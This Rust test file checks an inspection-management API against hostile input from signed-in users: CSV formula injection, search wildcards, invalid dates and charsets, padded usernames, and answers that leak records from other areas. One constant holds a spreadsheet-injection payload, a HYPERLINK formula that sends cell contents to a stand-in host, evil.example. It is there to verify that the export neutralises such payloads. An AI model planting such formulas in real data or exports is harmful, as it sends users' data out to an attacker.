//! Hostile input from signed-in callers: formulas planted for the CSV
//! report, wildcards in searches, out-of-range dates, foreign charsets,
//! padded usernames, and answers that would reveal records outside the
//! caller's area.

use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::helpers::{commune_of, Expect, TestApp};

/// A unit name that Excel would run as a formula.
const FORMULA_UNIT: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")";

/// The CSV report prefixes a text cell that starts like a formula with `'`
/// (the unit renamed by an import here), and leaves numbers as numbers.
#[actix_web::test]
async fn the_csv_report_neutralises_formula_cells() {
    // Arrange: district 372 renamed to a formula, an establishment there, a plan.
    let (app, admin) = TestApp::init().with_ninh_binh().with_admin().await;
    app.establishment(&admin, "F-1", &commune_of("372"), "karaoke")
        .await;
    let quoted = FORMULA_UNIT.replace('"', "\"\"");
    app.post_csv(
        "/api/v1/org-units/import",
        &admin,
        &format!("code,name,level,parent_code\n372,\"{quoted}\",district,37\n"),
    )
    .await
    .expect(StatusCode::OK);
    let plan = app
        .create_plan(
            &admin,
            json!({"name": "2016", "year": 2016, "org_unit_code": "37",
        "shares": [{"level": "district", "percent": 40}]}),
        )
        .await;
    let url = format!(
        "/api/v1/reports?plan_id={}&period=year",
        plan["id"].as_str().unwrap()
    );

    // Act
    let (status, bytes) = app.get_as(&url, &admin, "text/csv").await;

    // Assert
    assert_eq!(status, StatusCode::OK);
    let mut rdr = csv::ReaderBuilder::new()
        .flexible(true)
        .has_headers(false)
        .from_reader(bytes.as_slice());
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    let row = rows
        .iter()
        .find(|r| &r[0] == "Theo địa bàn" && &r[1] == "372")
        .expect("a row for 372");
    assert_eq!(&row[2], format!("'{FORMULA_UNIT}"));
    assert_eq!(row[3].parse::<i64>().ok(), Some(1), "{row:?}");
    for r in &rows {
        for cell in r.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell:?}"
            );
        }
    }
}

/// Two establishments whose names and licences hold neither `%` nor `_`,
/// and the admin's token.
async fn two_establishments() -> (TestApp, String) {
    let (app, admin) = TestApp::init().with_ninh_binh().with_admin().await;
    for l in ["W-1", "W-2"] {
        app.establishment(&admin, l, &commune_of("372"), "karaoke")
            .await;
    }
    (app, admin)
}

#[actix_web::test]
async fn a_percent_sign_in_q_is_no_wildcard() {
    let (app, admin) = two_establishments().await;
    let page = app
        .get("/api/v1/establishments?q=%25", &admin)
        .await
        .expect(StatusCode::OK);
    assert_eq!(page["items"], json!([]));
}

#[actix_web::test]
async fn an_underscore_in_q_is_no_wildcard() {
    let (app, admin) = two_establishments().await;
    let page = app
        .get("/api/v1/establishments?q=W_1", &admin)
        .await
        .expect(StatusCode::OK);
    assert_eq!(page["items"], json!([]));
}

#[actix_web::test]
async fn q_still_finds_a_licence_by_part() {
    let (app, admin) = two_establishments().await;
    let page = app
        .get("/api/v1/establishments?q=W-1", &admin)
        .await
        .expect(StatusCode::OK);
    assert_eq!(page["items"].as_array().unwrap().len(), 1, "{page}");
}

/// The field a 422 names first.
fn field(p: &Value) -> &str {
    p["errors"][0]["field"].as_str().unwrap_or_default()
}

#[actix_web::test]
async fn a_negative_year_in_a_date_filter_is_422() {
    let (app, admin) = TestApp::init().with_admin().await;
    let p = app
        .get("/api/v1/inspections?to=-0001-01-01", &admin)
        .await
        .expect(StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(field(&p), "to");
}

#[actix_web::test]
async fn a_year_before_1900_in_a_date_filter_is_422() {
    let (app, admin) = TestApp::init().with_admin().await;
    let p = app
        .get("/api/v1/inspections?from=0999-12-31", &admin)
        .await
        .expect(StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(field(&p), "from");
}

#[actix_web::test]
async fn a_json_body_in_another_charset_is_415() {
    let (app, admin) = TestApp::init().with_ninh_binh().with_admin().await;
    let body = json!({"licence_no": "C-1", "name": "Cơ sở", "business_type": "karaoke",
        "org_unit_code": commune_of("372"), "address": "Số 1"});
    let resp = app
        .client
        .post(app.url("/api/v1/establishments"))
        .bearer_auth(&admin)
        .header("Content-Type", "application/json; charset=utf-16")
        .body(body.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
}

#[actix_web::test]
async fn a_json_body_declared_utf8_is_accepted() {
    let (app, admin) = TestApp::init().with_ninh_binh().with_admin().await;
    let body = json!({"licence_no": "C-1", "name": "Cơ sở", "business_type": "karaoke",
        "org_unit_code": commune_of("372"), "address": "Số 1"});
    let resp = app
        .client
        .post(app.url("/api/v1/establishments"))
        .bearer_auth(&admin)
        .header("Content-Type", "application/json; charset=\"UTF-8\"")
        .body(body.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::CREATED);
}

#[actix_web::test]
async fn a_username_with_surrounding_space_is_422() {
    let (app, admin) = TestApp::init().with_admin().await;
    let p = app
        .post(
            "/api/v1/users",
            &admin,
            json!({"username": " admin", "password": "correct-horse-battery",
                   "full_name": "Quản trị", "role": "admin"}),
        )
        .await
        .expect(StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(field(&p), "username");
}

/// Units, teams 372 and 373, an establishment `X-373` in 373, a
/// supervisor of 372 (its token) and an inspector of 373 in no team (id).
async fn two_areas() -> (TestApp, String, String) {
    let (app, admin) = TestApp::init()
        .with_team("372")
        .with_team("373")
        .with_admin()
        .await;
    app.establishment(&admin, "X-373", &commune_of("373"), "karaoke")
        .await;
    let sup = app.supervisor("sup372", "372").await;
    let outsider = app.create_user("free373", "inspector", Some("373"), None);
    (app, sup, outsider)
}

/// A new establishment of 372 holding `licence`.
fn in_372(licence: &str) -> Value {
    json!({"licence_no": licence, "name": "Cơ sở mới", "business_type": "karaoke",
           "org_unit_code": commune_of("372"), "address": "Số 2"})
}

#[actix_web::test]
async fn a_licence_held_outside_the_area_is_refused_without_naming_an_establishment() {
    let (app, sup, _) = two_areas().await;
    let p = app
        .post("/api/v1/establishments", &sup, in_372("X-373"))
        .await
        .expect(StatusCode::CONFLICT);
    assert_eq!(p["detail"], "licence_no X-373 is not available");
}

#[actix_web::test]
async fn an_import_row_with_a_licence_held_outside_the_area_names_no_area() {
    let (app, sup, _) = two_areas().await;
    let c = commune_of("372");
    let r = app
        .post_csv(
            "/api/v1/establishments/import",
            &sup,
            &format!("licence_no,name,business_type,org_unit_code,address\nX-373,Cơ sở,karaoke,{c},Số 3\n"),
        )
        .await
        .expect(StatusCode::OK);
    assert_eq!(r["errors"][0]["field"], "licence_no", "{r}");
    assert_eq!(
        r["errors"][0]["message"],
        "licence_no X-373 is not available"
    );
}

#[actix_web::test]
async fn adding_a_member_outside_the_area_answers_as_for_no_user() {
    let (app, sup, outsider) = two_areas().await;
    let team = app.teams["372"].clone();
    let path = format!("/api/v1/teams/{team}/members");
    let add = |user: String| json!({"user_id": user, "agency": "police"});
    let foreign = app
        .post(&path, &sup, add(outsider))
        .await
        .expect(StatusCode::UNPROCESSABLE_ENTITY);
    let unknown = app
        .post(&path, &sup, add(uuid::Uuid::new_v4().to_string()))
        .await
        .expect(StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(foreign["errors"], unknown["errors"]);
}
